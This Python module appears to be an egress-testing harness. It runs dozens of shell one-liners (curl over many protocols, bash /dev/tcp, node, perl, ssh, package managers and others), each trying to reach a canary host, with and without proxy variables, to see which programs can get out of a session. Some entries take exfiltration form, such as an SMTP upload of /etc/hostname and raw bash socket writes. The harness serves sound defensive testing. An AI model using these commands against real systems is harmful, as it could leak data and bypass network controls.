"""Ways out by the programs that a session has, each by its own client, with the proxy's variables and without."""

import os
import subprocess
from collections.abc import Callable
from functools import partial

PATIENCE = 60.0
# Where they are, if the session does not say.
TOOLS = "/opt/tools/bin:/opt/rust/bin"
NOT_THERE = 127
Attack = Callable[[str], object]

PROXIES = [name for name in os.environ if name.lower().endswith("_proxy")]

# MARK.example.test is a name that is on no list; MIRROR is the mark written backwards.
COMMANDS = {
    "curl": "curl -sS -m 9 http://MARK.example.test/",
    "curl, by TLS": "curl -sSk -m 9 https://MARK.example.test/",
    "curl, after a redirection": "curl -sSL -m 9 http://git.example.test/to/tset.elpmaxe.MIRROR",
    "curl, another name than the tunnel's": "curl -sSk -m 9 --connect-to ::git.example.test:443 https://MARK.example.test/",
    "curl, HTTP/2 without asking": "curl -sS -m 9 --http2-prior-knowledge http://MARK.example.test/",
    "curl, upgrade to HTTP/2": "curl -sS -m 9 --http2 http://MARK.example.test/",
    "curl, by FTP": "curl -sS -m 9 ftp://MARK.example.test/",
    "curl, by gopher": "curl -sS -m 9 gopher://MARK.example.test:80/_MARK",
    "curl, by dict": "curl -sS -m 9 dict://MARK.example.test:80/MARK",
    "curl, by telnet": "echo MARK | curl -sS -m 9 telnet://MARK.example.test:80/",
    "curl, by MQTT": "curl -sS -m 9 mqtt://MARK.example.test/a",
    "curl, by SMTP": "curl -sS -m 9 --mail-from MARK --upload-file /etc/hostname smtp://MARK.example.test:80/",
    "curl, upgrade to a WebSocket": "curl -sS -m 9 -H 'Connection: Upgrade' -H 'Upgrade: websocket' http://MARK.example.test/",
    "curl, names by HTTPS": "curl -sSk -m 9 --doh-url https://MARK.example.test/ http://a.example.test/",
    "bash": "exec 3<>/dev/tcp/MARK.example.test/80; echo MARK >&3",
    "bash, a datagram": "echo MARK >/dev/udp/MARK.example.test/80",
    "python": "/usr/bin/python3 -c 'import urllib.request as u; u.urlopen(\"http://MARK.example.test/\", timeout=9)'",
    "python, by socket": "/usr/bin/python3 -c 'import socket; socket.create_connection((\"MARK.example.test\", 80), 9)'",
    "python, by FTP": "/usr/bin/python3 -c 'import ftplib; ftplib.FTP(\"MARK.example.test\", timeout=9)'",
    "node, fetch": "node -e 'fetch(\"http://MARK.example.test/\")'",
    "node, http": "node -e 'require(\"http\").get(\"http://MARK.example.test/\")'",
    "node, net": "node -e 'require(\"net\").connect(80, \"MARK.example.test\").write(\"MARK\")'",
    "node, HTTP/2": "node -e 'require(\"http2\").connect(\"http://MARK.example.test\").request({}).end()'",
    "node, a TXT record": "node -e 'require(\"dns\").resolveTxt(\"MARK.example.test\", console.log)'",
    "node, a datagram": "node -e 's = require(\"dgram\").createSocket(\"udp4\"); s.send(\"MARK\", 80, \"MARK.example.test\", () => s.close())'",
    "bun, fetch": "bun -e 'await fetch(\"http://MARK.example.test/\")'",
    "bun, WebSocket": "bun -e 'const w = new WebSocket(\"ws://MARK.example.test/\"); w.onerror = w.onclose = () => process.exit()'",
    "bun, a name": "bun -e 'await Bun.dns.lookup(\"MARK.example.test\")'",
    "perl": "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr => \"MARK.example.test:80\", Timeout => 9) or die $@'",
    "perl, HTTP::Tiny": "perl -MHTTP::Tiny -e 'print HTTP::Tiny->new(timeout => 9)->get(\"http://MARK.example.test/\")->{content}'",
    "git": "git ls-remote http://MARK.example.test/a.git",
    "git, by its own protocol": "git ls-remote git://MARK.example.test/a.git",
    "git, by ssh": "GIT_SSH_COMMAND='ssh -o BatchMode=yes -o ConnectTimeout=9' git ls-remote ssh://MARK.example.test/a.git",
    "ssh": "ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=9 MARK.example.test",
    "openssl": "openssl s_client -connect MARK.example.test:443 </dev/null",
    "cargo": "CARGO_HOME=$(mktemp -d) cargo install --index sparse+http://MARK.example.test/ nothing",
    "uv": "uv --no-cache pip install --target $(mktemp -d) --index-url http://MARK.example.test/simple nothing",
    "npm": "npm --cache $(mktemp -d) --fetch-retries=0 --registry http://MARK.example.test/ view nothing",
    "pip": "/usr/bin/python3 -m pip download --isolated --no-cache-dir --retries 0 --trusted-host MARK.example.test -d $(mktemp -d) --index-url http://MARK.example.test/simple nothing",
    "apt": "cd $(mktemp -d) && mkdir -p lists/partial && echo 'deb [trusted=yes] http://MARK.example.test/ ./' >sources.list && apt-get -o Dir::Etc::SourceList=$PWD/sources.list -o Dir::Etc::SourceParts=/dev/null -o Dir::State::Lists=$PWD/lists -o Dir::Cache=$PWD -o Acquire::Retries=0 -o Acquire::http::Timeout=9 update",
    "getent": "getent ahosts MARK.example.test",
    "getent, by an alias": "cd $(mktemp -d) && echo 'alias MARK.example.test' >aliases && HOSTALIASES=$PWD/aliases getent ahosts alias",
}  # fmt: skip


def run(command: str, mark: str, *, direct: bool) -> object:
    """Run a command with the variables of the session, or without those of the proxy."""
    words = command.replace("MARK", mark).replace("MIRROR", mark[::-1])
    environ = {name: value for name, value in os.environ.items() if not (direct and name in PROXIES)}
    done = subprocess.run(
        ["/bin/bash", "-c", words],
        env={**environ, "HOME": "/tmp", "PATH": f"{os.environ.get('PATH', '')}:{TOOLS}"},  # noqa: S108 - ours
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=PATIENCE, check=False,
    )  # fmt: skip
    told = done.stdout[-200:].decode(errors="replace")
    return f"absent: {told}" if done.returncode == NOT_THERE else (done.returncode, told)


PROGRAMS: dict[str, Attack] = {
    **{name: partial(run, command, direct=False) for name, command in COMMANDS.items()},
    **{f"{name}, without a proxy": partial(run, command, direct=True) for name, command in COMMANDS.items()},
}
